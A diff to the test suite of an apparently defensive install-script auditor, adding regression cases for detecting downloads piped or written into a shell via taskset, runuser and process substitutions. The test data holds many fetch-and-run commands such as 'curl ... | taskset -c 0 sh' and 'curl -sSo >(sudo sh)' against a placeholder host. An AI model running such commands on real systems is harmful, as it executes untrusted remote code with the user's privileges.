@@ -351,6 +351,15 @@ describe("pipe-to-shell", () => {
     ],
     // Stages are split at a `|` outside quotes only: one in a header's quotes leaves the pipe into sh after it.
     ["curl with a | in a quoted header | sh", "curl -fsSL -H 'X-Note: a | b' https://x.example/i.sh|sh"],
+    // Regression: taskset's CPU list and runuser's user were read as the program.
+    ["curl | taskset -c 0 sh", "curl -fsSL https://x.example/i.sh | taskset -c 0 sh"],
+    ["curl | taskset 0x3 bash", "curl -fsSL https://x.example/i.sh | taskset 0x3 bash -s"],
+    ["curl | runuser -u user -- sh", "curl -fsSL https://x.example/i.sh | runuser -u deploy -- sh"],
+    // Regression: the download's output written into a process substitution running a shell was missed.
+    ["curl > >(sh)", "curl -fsSL https://x.example/i.sh > >(sh)"],
+    ["curl -o >(bash -s)", "curl -fsSL -o >(bash -s -- --yes) https://x.example/i.sh"],
+    ["curl -sSo >(sudo sh)", "curl -sSo >(sudo sh) https://x.example/i.sh"],
+    ["wget -qO >(sh)", "wget -qO >(sh) https://x.example/i.sh"],
     ["curl | deno run -", "curl -fsSL https://x.example/i.ts | deno run -A -"],
     ["curl | bun -", "curl -fsSL https://x.example/i.js | bun -"],
     [
@@ -393,6 +402,13 @@ describe("pipe-to-shell", () => {
     const command = "curl -fsSL https://x.example/i.sh | tee install.log >(bash -s)";
     expect(audit("p/s/install.sh", `${command}\n`).map((found) => found.detail)).toEqual([
       `a download piped into bash through tee: ${JSON.stringify(command)}`,
+    ]);
+  });
+
+  it("names the shell a download is written into through a process substitution", () => {
+    const command = "curl -fsSL https://x.example/i.sh > >(bash -s)";
+    expect(audit("p/s/install.sh", `${command}\n`).map((found) => found.detail)).toEqual([
+      `a download piped into bash through a process substitution: ${JSON.stringify(command)}`,
     ]);
   });
 
@@ -441,6 +457,13 @@ describe("pipe-to-shell", () => {
     // Regression: stages were split at every `|`, in quotes too, and jq's program read as a pipe into sh.
     ["curl | jq 'a | sh'", "curl -s https://x.example/data | jq '.items[] | sh'"],
     ['curl | grep "a|sh"', 'curl -s https://x.example/data | grep -E "bash|sh" | sort'],
+    // Written into process substitutions that read data, or from a stream that is not the download.
+    ["curl > >(gzip > out.gz)", "curl -s https://x.example/data > >(gzip > out.gz)"],
+    ["curl 2> >(sh)", "curl -s https://x.example/data -o data.json 2> >(sh ./log-errors.sh)"],
+    ["curl -O >(sh)", "curl -s -O https://x.example/data >(sh ./check.sh)"],
+    ["curl -o a file named >(sh)", `curl -s -o ">(sh)" https://x.example/data`],
+    ["curl | taskset -c 0 make", "curl -s https://x.example/data | taskset -c 0 make"],
+    ["curl | runuser -u user -- sh script", "curl -s https://x.example/data | runuser -u me -- sh ./x.sh"],
     // What a runner's operands and options must not make a shell of.
     ["curl | timeout 10 make", "curl -s https://x.example/data | timeout 10 make"],
     ["curl | timeout 10 sh script", "curl -s https://x.example/data | timeout 10 sh ./process.sh"],
